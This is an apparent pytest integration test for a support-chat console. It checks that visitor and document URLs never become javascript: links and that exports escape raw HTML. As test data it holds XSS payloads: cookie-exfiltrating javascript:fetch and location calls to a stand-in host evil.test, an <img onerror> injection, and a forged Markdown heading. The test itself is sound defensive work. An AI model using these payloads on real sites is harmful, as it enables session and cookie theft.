"""Addresses the team did not write become links only when they are http(s).

Two attackers: a visitor, whose browser reports `page_url` and `referrer` (any string), and
the author of a knowledge-base file, whose front matter names the document's `url`.
Before this, the transcript, the live page, the knowledge list and the citations rendered
`javascript:…` as a clickable `href` (only the console's CSP kept it from running), and
the Markdown export carried the visitor's `<img onerror=…>` as raw HTML.
"""

from __future__ import annotations

import re
import uuid
from typing import Any

import pytest
from console_support import Console, page_csrf, sign_in

from frontdesk.conversation.payload import Citation, TurnResult
from frontdesk.conversation.persistence import TurnRecord, TurnWriter
from frontdesk.conversation.spool import Spool

pytestmark = pytest.mark.integration

PAGE = "javascript:alert(document.cookie)"
REFERRER = "JaVaScRiPt:fetch('//evil.test/'+document.cookie)"
MESSAGE = "<img src=x onerror=alert(1)> see [my invoice](javascript:alert(2))\n## Turn 9"
DOC_URL = "javascript:location='//evil.test/?'+document.cookie"
DOCUMENT = f"""---
title: Refund policy
url: "{DOC_URL}"
---
# Refund policy

Refunds are paid within 14 days of a written request.
""".encode()
REAL_PAGE = "https://www.example.test/pricing?plan=team"
ALLOWED_HREF = re.compile(r"^(/|#|https?://|mailto:|data:,$)")  # data:, the empty icon


def hrefs(html: str) -> list[str]:
    return re.findall(r"""href\s*=\s*["']?([^"'\s>]*)""", html, flags=re.IGNORECASE)


def assert_only_safe_links(html: str, where: str) -> None:
    bad = [href for href in hrefs(html) if not ALLOWED_HREF.match(href)]
    assert bad == [], where
    assert not re.search(r"href\s*=\s*[\"']?\s*javascript:", html, flags=re.IGNORECASE), where


def record_visitor_turn(console: Console, session_id: str, page: str = PAGE) -> None:
    """The turn as the chat API stores it: the visitor's page and referrer as sent, the
    answer citing the planted document."""
    runtime = console.runtime
    site = runtime.sites["demo"].config
    writer = TurnWriter(runtime.sessions, Spool(console.settings.data_dir / "test-spool"))
    opened = writer.open_turn(site, session_id, MESSAGE, uuid.uuid4().hex, page, REFERRER)
    result = TurnResult(
        answer="Refunds are paid within 14 days [1].",
        routing="answered",
        route="ANSWER",
        intent="SUPPORT",
        language="en",
        session_id=session_id,
        turn=opened.turn,
        citations=[
            Citation(
                index=1,
                doc_id="refund-policy",
                title="Refund policy",
                url=DOC_URL,
                excerpt="Refunds are paid within 14 days of a written request.",
            )
        ],
    )
    writer.write(
        TurnRecord(site=site, session_id=session_id, message=MESSAGE, result=result, values={}),
        opened,
    )


def test_visitor_and_document_addresses_are_never_script_links(
    console_app: Console, team: Any
) -> None:
    from api_support import demo_headers, keep_secrets

    # The API takes these strings as sent (a browser reports whatever the page says).
    visitor = keep_secrets(console_app.client())
    sent = visitor.post(
        "/v1/ask",
        json={"message": MESSAGE, "page_url": PAGE, "referrer": REFERRER},
        headers=demo_headers(),
    )
    assert sent.status_code == 200, sent.text
    seen = console_app.app.state.chat.calls[-1][3]
    assert (seen.page_url, seen.referrer) == (PAGE, REFERRER)

    session_id = str(uuid.uuid4())
    record_visitor_turn(console_app, session_id)
    record_visitor_turn(console_app, session_id, page=REAL_PAGE)
    owner = console_app.client()
    assert sign_in(owner, team["owner"]).status_code == 303
    base = "/console/sites/demo"
    csrf = page_csrf(owner, f"{base}/knowledge")
    uploaded = owner.post(
        f"{base}/knowledge/upload",
        data={"csrf_token": csrf},
        files={"files": ("refund-policy.md", DOCUMENT, "text/markdown")},
    )
    assert uploaded.status_code == 200, uploaded.text

    pages = {
        "transcript": owner.get(f"{base}/conversations/{session_id}"),
        "turns fragment": owner.get(
            f"{base}/conversations/{session_id}?turns=1", headers={"HX-Request": "true"}
        ),
        "live": owner.get(f"{base}/conversations/{session_id}/live"),
        "knowledge": owner.get(f"{base}/knowledge"),
    }
    for where, response in pages.items():
        assert response.status_code == 200, where
        assert_only_safe_links(response.text, where)
    # Nothing is hidden from the team: the addresses are shown, as text.
    transcript = pages["transcript"].text
    assert "javascript:alert(document.cookie)" in transcript
    assert "&lt;img src=x onerror=alert(1)&gt;" in transcript and "<img" not in transcript
    assert "Refund policy" in pages["knowledge"].text
    assert "Refund policy" in pages["turns fragment"].text
    # A real web address is still a link.
    assert f'<a href="{REAL_PAGE}" rel="noopener noreferrer">' in transcript

    markdown = owner.get(f"{base}/conversations/{session_id}/export.md").text
    assert "<img" not in markdown and "</" not in markdown
    assert "](javascript:" not in markdown.lower() and "<javascript:" not in markdown.lower()
    assert "&lt;img src=x onerror=alert\\(1\\)&gt;" in markdown  # shown, inert
    assert "- Page: javascript:alert\\(document.cookie\\)" in markdown
    assert f"- Page: <{REAL_PAGE}>" in markdown
    assert "\n## Turn 9" not in markdown  # the visitor's line cannot pass for a turn
    assert "- \\[1\\] Refund policy" in markdown
    # Rendered by a CommonMark renderer that lets raw HTML through (as many viewers do).
    markdown_it = pytest.importorskip("markdown_it")
    renderer = markdown_it.MarkdownIt("commonmark", {"html": True}).enable(["table"])
    rendered = renderer.render(markdown)
    assert "<img" not in rendered and "onerror=alert(1)" in rendered  # shown as text
    assert_only_safe_links(rendered, "rendered export")
    assert rendered.count("<h2>") == 2  # the two real turns, not the visitor's "## Turn 9"

    exported = owner.get(f"{base}/conversations/{session_id}/export.json")
    assert exported.headers["content-type"].startswith("application/json")
    assert exported.json()["turns"][0]["visitor"] == MESSAGE  # data, kept as written
